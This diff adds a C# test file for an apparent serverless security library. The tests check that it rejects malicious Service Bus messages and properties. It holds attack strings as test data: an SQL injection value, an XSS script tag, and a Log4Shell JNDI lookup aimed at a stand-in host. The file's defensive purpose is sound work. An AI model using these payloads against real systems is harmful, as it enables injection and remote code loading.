@@ -1,0 +1,117 @@
+using ServerlessShield.AzureFunctions.Tests.FakeHost;
+using ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc;
+using Status = ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc.StatusResult.Types.Status;
+
+namespace ServerlessShield.AzureFunctions.Tests.Pipeline;
+
+/// <summary>serviceBusTrigger through hand-written metadata: single messages, batches, application properties.</summary>
+public sealed class ServiceBusTriggerTests(SyntheticWorkerFixture worker) : IClassFixture<SyntheticWorkerFixture>
+{
+    [Fact]
+    public async Task Message_Allowed_RunsTheFunction()
+    {
+        var message = Data.Unique("ok");
+
+        var response = await InvokeAsync(message);
+
+        Assert.Equal(Status.Success, response.Result.Status);
+        Assert.Contains(message, SyntheticFunctions.Received);
+    }
+
+    [Fact]
+    public async Task Message_Oversize_FailsWithTheLimitRuleAndTheFunctionDoesNotRun()
+    {
+        var message = "big-" + new string('b', 40);
+
+        var response = await InvokeAsync(message);
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        Assert.Contains("SHIELD2001", response.Result.Exception.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain(message, SyntheticFunctions.Received);
+    }
+
+    [Fact]
+    public async Task Message_ExceptionWithSecret_FailsWithoutTheSecret()
+    {
+        var response = await InvokeAsync(Data.Unique("fail"));
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        Assert.DoesNotContain("TopSecret", response.Result.Exception.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain("TopSecret", response.Result.Exception.StackTrace, StringComparison.Ordinal);
+        Assert.Contains(response.InvocationId, response.Result.Exception.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Message_MaliciousApplicationProperty_FailsAndTheFunctionDoesNotRun()
+    {
+        var message = Data.Unique("ok");
+
+        var response = await InvokeAsync(message, new() { ["ApplicationProperties"] = Data.Json("{\"tenant\":\"x' OR '1'='1' --\"}") });
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        Assert.Contains("SHIELD1001", response.Result.Exception.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain(message, SyntheticFunctions.Received);
+        Assert.Contains(SecurityEventLog.Of(response.InvocationId), e => e.FieldPath == "message.properties.tenant");
+    }
+
+    [Fact]
+    public async Task Batch_Allowed_RunsTheFunctionWithEveryMessage()
+    {
+        var first = Data.Unique("m1");
+
+        var response = await InvokeBatchAsync([first, "m2"], ["id-1", "id-2"]);
+
+        Assert.Equal(Status.Success, response.Result.Status);
+        Assert.Contains(first + "|m2", SyntheticFunctions.ReceivedBatches);
+    }
+
+    [Fact]
+    public async Task Batch_OneMaliciousMessage_FailsTheBatchAndReportsTheMessageId()
+    {
+        var first = Data.Unique("m1");
+
+        var response = await InvokeBatchAsync([first, "<script>alert(1)</script>"], ["id-1", "id-2"]);
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        Assert.Contains("SHIELD1003", response.Result.Exception.Message, StringComparison.Ordinal);
+        Assert.Contains(response.InvocationId, response.Result.Exception.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain(SyntheticFunctions.ReceivedBatches, b => b.StartsWith(first, StringComparison.Ordinal));
+        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1003");
+        Assert.Equal("id-2", finding.ItemId);
+        Assert.Equal("messages[1]", finding.FieldPath);
+    }
+
+    [Fact]
+    public async Task Batch_MaliciousApplicationPropertyOfOneMessage_IsReportedWithThatMessageId()
+    {
+        var response = await InvokeBatchAsync([Data.Unique("m1"), "m2"], ["id-1", "id-2"],
+            "[{\"source\":\"crm\"},{\"source\":\"${jndi:ldap://evil.example/a}\"}]");
+
+        Assert.Equal(Status.Failure, response.Result.Status);
+        Assert.Contains("SHIELD1009", response.Result.Exception.Message, StringComparison.Ordinal);
+        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1009");
+        Assert.Equal("id-2", finding.ItemId);
+    }
+
+    private Task<InvocationResponse> InvokeAsync(string message, Dictionary<string, TypedData>? metadata = null)
+    {
+        metadata ??= [];
+        metadata["MessageId"] = Data.String(Guid.NewGuid().ToString());
+        metadata["DeliveryCount"] = Data.Json("1");
+        return worker.InvokeAsync(SyntheticWorkerFixture.ServiceBusFunction, "message", Data.String(message), metadata);
+    }
+
+    private Task<InvocationResponse> InvokeBatchAsync(string[] messages, string[] messageIds, string? applicationProperties = null)
+    {
+        var metadata = new Dictionary<string, TypedData>
+        {
+            ["MessageIdArray"] = Data.Json("[" + string.Join(',', messageIds.Select(id => "\"" + id + "\"")) + "]"),
+        };
+        if (applicationProperties is not null)
+        {
+            metadata["ApplicationPropertiesArray"] = Data.Json(applicationProperties);
+        }
+
+        return worker.InvokeAsync(nameof(SyntheticFunctions.OnServiceBusBatch), "messages", Data.Strings(messages), metadata);
+    }
+}
